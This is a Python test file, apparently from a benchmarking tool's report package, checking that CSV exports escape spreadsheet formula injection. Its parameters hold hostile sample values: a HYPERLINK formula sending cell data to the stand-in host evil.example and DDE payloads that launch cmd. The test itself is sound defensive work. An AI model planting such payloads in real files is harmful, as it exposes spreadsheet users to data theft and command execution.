"""The CSV files of a site and of an export, from an archive whose names are formulas."""

import csv
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from archive_factory import make_archive
from tokenpeak.cli.archive import export
from tokenpeak.report import open_archive
from tokenpeak.report.site import sweep_pages

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")


@pytest.mark.parametrize(
    "formula", [FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1"]
)
def test_no_cell_of_a_csv_is_a_formula(formula: str, tmp_path: Path) -> None:
    """Neither a cell nor a column's head begins as a spreadsheet's formula does, and the texts are there."""
    archive = make_archive(tmp_path / "in", axes={"max_num_seqs": [8, 64]}, gpus=["NVIDIA L4"], requests=4, seconds=3)
    for path in [archive.path / "sweep.json", *archive.path.glob("trials/*.json")]:
        path.write_text(path.read_text().replace('"node-1"', json.dumps(formula)))
    sweep_pages.write_frames(open_archive(archive.path), tmp_path / "frames")
    block = {
        "kind": "table",
        "name": "a",
        "columns": [{"title": formula, "unit": ""}],
        "rows": [[{"text": formula}]],
    }
    sweep_pages.write_csv([block], tmp_path / "page", "page", [formula])
    exported = CliRunner().invoke(export, [str(archive.path), "--output", str(tmp_path / "out"), "--format", "csv"])
    cells = []
    for path in tmp_path.rglob("*.csv"):
        with path.open(newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]

    assert 0 == exported.exit_code, exported.output
    assert [] == [cell for cell in cells if re.match(r"[=+\-@\t\r\n]", cell) and not NUMBER.fullmatch(cell)]
    assert f"'{formula}" in cells
